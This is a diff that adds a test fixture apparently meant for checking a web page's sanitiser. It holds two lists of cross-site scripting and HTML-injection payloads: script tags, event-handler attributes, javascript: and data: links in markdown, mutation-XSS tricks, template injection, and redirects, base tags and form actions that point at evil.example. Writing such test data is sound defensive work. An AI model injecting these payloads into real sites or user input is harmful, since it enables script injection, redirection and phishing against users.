@@ -1,0 +1,43 @@
+/** What people write who want a page to do something else than show it. */
+export const hostile = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "\"><script>alert(1)</script>",
+  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</script><script>alert(1)</script>",
+  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<details open ontoggle=alert(1)>",
+  "<a href='javascript:alert(1)'>press</a>",
+  "[press](javascript:alert(1))",
+  "[press](JaVa&#115;cript:alert(1))",
+  "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+  "[press]( \u0001javascript:alert(1))",
+  "![x](x\"onerror=alert(1)//)",
+  "<javascript:alert(1)>",
+  "`<img src=x onerror=alert(1)>`",
+  "```\n</code></pre><script>alert(1)</script>\n```",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<base href='https://evil.example/'>",
+  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+  "<form action=https://evil.example><button>press</button></form>",
+  "<object data='javascript:alert(1)'></object>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+  "\u202e<script>alert(1)</script>\u202c",
+  "{{constructor.constructor('alert(1)')()}}",
+  "<xmp><script>alert(1)</script></xmp><plaintext>",
+];
+
+/** Names that people can buy under. */
+export const hostileNames = [
+  "<script>alert(1)</script> <svg/onload=alert(1)>",
+  "<img/src=x/onerror=alert(1)> x",
+  "\"'><svg/onload=alert(1)> </title><script>alert(1)</script>",
+  "</bdi></a><script>alert(1)</script> y",
+];
